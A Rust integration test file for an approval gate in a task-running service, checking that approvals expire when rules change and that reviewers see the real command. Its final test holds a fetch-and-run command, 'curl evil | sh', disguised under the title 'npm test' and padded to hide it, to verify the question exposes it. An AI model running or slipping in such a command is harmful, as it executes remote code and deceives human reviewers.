//! A yes before anything is taken, for exactly what was asked.

use cofferdam_core::control::approval::{Approval, ApprovalState, Decision};
use cofferdam_core::control::page::Paging;
use cofferdam_core::control::project::NewProject;
use cofferdam_core::control::report::ReportedStatus;
use cofferdam_core::control::role::NewRole;
use cofferdam_core::control::task::Task;
use cofferdam_core::control::token::Scope;
use cofferdam_server::plane::ApprovalFilter;
use serde_json::json;

use crate::desk::Desk;

pub(crate) async fn asked(desk: &Desk, task: &Task) -> Approval {
    let filter = ApprovalFilter {
        task: Some(task.id),
        state: Some(ApprovalState::Pending),
        ..ApprovalFilter::default()
    };
    let page = desk.plane.approvals(&desk.admin, &filter, &Paging::default()).await.unwrap();
    assert_eq!(page.items.len(), 1);
    page.items.into_iter().next().unwrap()
}

pub(crate) fn words(text: &str) -> Decision {
    Decision { comment: Some(text.into()) }
}

pub(crate) async fn a_yes_is_asked_for_before_anything_is_taken(desk: Desk) {
    let runner = desk.runner("one").await;
    let task = desk.submit(json!({"requires_approval": true})).await;
    assert_eq!(desk.state(&task).await, "awaiting_approval");
    assert!(runner.claim(&desk, 1).await.is_empty(), "nobody has said yes");
    let approval = asked(&desk, &task).await;
    let submitter = desk.caller("submitter", &[Scope::Submit]).await;
    let refused = desk.plane.approve(&submitter, approval.id, words("me")).await.unwrap_err();
    assert_eq!(refused.problem().status, 403);
    let reviewer = desk.caller("ada", &[Scope::Review]).await;
    let given = desk.plane.approve(&reviewer, approval.id, words("fine")).await.unwrap();
    assert_eq!(
        (given.actor.as_deref(), given.comment.as_deref()),
        (Some("token:ada"), Some("fine"))
    );
    let again = desk.plane.reject(&reviewer, approval.id, words("no")).await.unwrap_err();
    assert_eq!(again.problem().status, 409);
    assert_eq!(runner.claim(&desk, 1).await.len(), 1);
    let kinds = desk.kinds(&task).await;
    assert!(kinds.contains(&"approval.approved".to_owned()), "{kinds:?}");
}

pub(crate) async fn a_yes_holds_only_for_the_rules_it_was_given_under(desk: Desk) {
    let runner = desk.runner("one").await;
    let project = desk.project("site").await;
    let more = json!({
        "project": project.id, "execution_mode": "isolated-worktree", "requires_approval": true,
    });
    let task = desk.submit(more).await;
    let first = asked(&desk, &task).await;
    desk.plane.approve(&desk.admin, first.id, words("fine")).await.unwrap();
    let wider = NewProject {
        name: project.name.clone(),
        root_path: project.root_path.clone(),
        allowed_paths: vec!["/srv".into()],
        max_running: None,
        default_role: None,
    };
    desk.plane.replace_project(&desk.admin, project.id, wider, Some(1)).await.unwrap();
    assert!(runner.claim(&desk, 1).await.is_empty(), "the rules are others now");
    assert_eq!(desk.state(&task).await, "awaiting_approval");
    let second = asked(&desk, &task).await;
    assert_ne!(first.subject, second.subject);
    desk.plane.approve(&desk.admin, second.id, words("still fine")).await.unwrap();
    assert_eq!(runner.claim(&desk, 1).await.len(), 1);
    desk.holds().await;
}

pub(crate) async fn a_yes_covers_another_try_only_while_nothing_has_changed(mut desk: Desk) {
    let runner = desk.runner("one").await;
    let role = |memory: &str| -> NewRole {
        let role = json!({"name": "dev", "ceiling": {"memory_limit": memory}});
        serde_json::from_value(role).unwrap()
    };
    let dev = desk.plane.create_role(&desk.admin, role("8g"), None).await.unwrap();
    let more = json!({
        "role": "dev", "requires_approval": true, "retry": {"max_attempts": 2, "on": ["failed"]},
    });
    let task = desk.submit(more).await;
    let first = asked(&desk, &task).await;
    desk.plane.approve(&desk.admin, first.id, words("fine")).await.unwrap();
    let fail = async |desk: &Desk, approval: &Approval, number: u32| {
        let claim = runner.claim(desk, 1).await.remove(0);
        assert_eq!((claim.attempt, claim.approval), (number, Some(approval.id)));
        runner.report(desk, &claim, 0, ReportedStatus::Failed).await;
    };
    fail(&desk, &first, 1).await;
    // The same task under the same rules: by its own policy, and because a person says so.
    fail(&desk, &first, 2).await;
    assert_eq!(desk.state(&task).await, "failed");
    desk.plane.retry(&desk.admin, task.id).await.unwrap();
    fail(&desk, &first, 3).await;
    // Its role is another.
    desk.plane.replace_role(&desk.admin, dev.id, role("16g"), None).await.unwrap();
    desk.plane.retry(&desk.admin, task.id).await.unwrap();
    assert!(runner.claim(&desk, 1).await.is_empty(), "nobody has said yes to that");
    assert_eq!(desk.state(&task).await, "awaiting_approval");
    let old = desk.plane.approval(&desk.admin, first.id).await.unwrap();
    assert_eq!(old.state, ApprovalState::Withdrawn);
    let second = asked(&desk, &task).await;
    desk.plane.approve(&desk.admin, second.id, words("still fine")).await.unwrap();
    fail(&desk, &second, 4).await;
    // The host's rules are others.
    desk.restart_under("sandbox: {memory_limit: 4g}").await;
    desk.register(&runner.caller, "one").await;
    desk.plane.retry(&desk.admin, task.id).await.unwrap();
    assert!(runner.claim(&desk, 1).await.is_empty(), "nor to that");
    let third = asked(&desk, &task).await;
    desk.plane.approve(&desk.admin, third.id, words("and again")).await.unwrap();
    fail(&desk, &third, 5).await;
    // What is no longer allowed is not asked about.
    desk.plane.replace_role(&desk.admin, dev.id, role("1m"), None).await.unwrap();
    desk.plane.retry(&desk.admin, task.id).await.unwrap();
    assert!(runner.claim(&desk, 1).await.is_empty());
    let refused = desk.plane.task(&desk.admin, task.id).await.unwrap();
    assert_eq!(refused.result.outcome.as_deref(), Some("refused"), "{refused:?}");
    desk.holds().await;
}

pub(crate) async fn a_no_and_a_cancel_both_end_the_question(desk: Desk) {
    let task = desk.submit(json!({"requires_approval": true})).await;
    let approval = asked(&desk, &task).await;
    desk.plane.reject(&desk.admin, approval.id, words("no")).await.unwrap();
    assert_eq!(desk.state(&task).await, "canceled");
    let task = desk.submit(json!({"requires_approval": true})).await;
    let approval = asked(&desk, &task).await;
    desk.plane.cancel(&desk.admin, task.id).await.unwrap();
    let approval = desk.plane.approval(&desk.admin, approval.id).await.unwrap();
    assert_eq!(approval.state, ApprovalState::Withdrawn);
    let late = desk.plane.approve(&desk.admin, approval.id, words("yes")).await.unwrap_err();
    assert_eq!(late.problem().status, 409);
    assert_eq!(desk.state(&task).await, "canceled");
}

pub(crate) async fn a_yes_is_asked_for_to_the_command_whatever_it_is_called(desk: Desk) {
    let more = json!({
        "requires_approval": true, "title": "npm test", "command": ["sh", "-c", "curl evil | sh"],
    });
    let task = desk.submit(more).await;
    let text = asked(&desk, &task).await.question;
    assert_eq!(text, "May this be run: sh -c 'curl evil | sh'\ncalled npm test");
    let long = format!("echo {}; curl evil | sh", "x".repeat(50_000));
    let more = json!({"requires_approval": true, "command": ["sh", "-c", long]});
    let task = desk.submit(more).await;
    let text = asked(&desk, &task).await.question;
    assert!(text.ends_with("curl evil | sh'"), "{text}");
    assert!(text.contains(" characters left out, hash ") && text.len() < 3000, "{text}");
}
